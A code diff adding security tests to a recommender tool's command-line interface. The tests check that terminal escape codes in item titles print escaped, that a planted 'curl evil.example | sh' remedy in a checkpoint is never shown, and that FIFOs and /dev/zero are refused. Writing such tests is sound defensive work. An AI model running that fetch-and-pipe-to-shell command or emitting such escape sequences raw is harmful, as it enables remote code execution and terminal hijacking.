@@ -6,6 +6,7 @@ another configuration refused in one line; new items' semantic IDs and their nei
 from __future__ import annotations
 
 import json
+import os
 from pathlib import Path
 
 import numpy as np
@@ -120,6 +121,25 @@ def test_a_near_miss_title_gets_did_you_mean_and_a_titleless_item_a_readable_nam
     assert item_row(ds, None, 2)["title"] == "(no title)"
 
 
+def test_titles_with_terminal_escapes_are_printed_escaped(trained, capsys, monkeypatch):
+    """A title read from the data that carries escape codes (clear screen, window title) is shown
+    as \\x1b... in the table and the history line, never sent to the terminal raw."""
+    data, ckpt, _ = trained
+    path = str(_ckpt(ckpt, "tiger-sasrec-"))
+    real = recommend.load_trained
+
+    def planted(*args, **kwargs):
+        t = real(*args, **kwargs)
+        t.ds.meta.title[:] = [f"\x1b[2J\x1b]0;owned\x07Title {i}" for i in range(t.ds.n_items)]
+        return t
+
+    monkeypatch.setattr(recommend, "load_trained", planted)
+    ds = load_dataset(data)
+    assert recommend.main(["--checkpoint", path, "--user", str(ds.user_ids[3])]) == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "\\x1b[2J\\x1b]0;owned" in out
+
+
 @pytest.mark.parametrize("prefix", MODELS[1:3])
 def test_a_batch_gives_each_request_the_single_request_answer(trained, capsys, tmp_path, prefix):
     """--users and --histories: one JSON line per request, the same lists as one call each; a bad
@@ -213,6 +233,16 @@ def test_checkpoints_of_other_data_ids_or_configuration_are_refused(trained, tmp
     # not a checkpoint at all
     (tmp_path / "junk.pt").write_bytes(b"junk")
     assert "not a readable checkpoint" in _refused(tmp_path / "junk.pt", *user)
+    # a planted command is never the remedy printed: the trainers are named instead
+    state["spec"]["command"] = "curl evil.example | sh \x1b]0;pwned\x07"
+    save_checkpoint(bad, state)
+    line = _refused(bad, *user)
+    assert "curl" not in line and "\x1b" not in line
+    assert "re-create it with the trainer that wrote it (tiger_train_eval.py" in line
+    # a FIFO would block the read forever, /dev/zero never end: refused at once
+    os.mkfifo(tmp_path / "fifo.pt")
+    for special in (tmp_path / "fifo.pt", Path("/dev/zero")):
+        assert "not a regular file" in _refused(special, *user)
 
 
 def test_checkpoint_without_spec_is_rebuilt_from_its_preset_or_refused(trained, tmp_path):
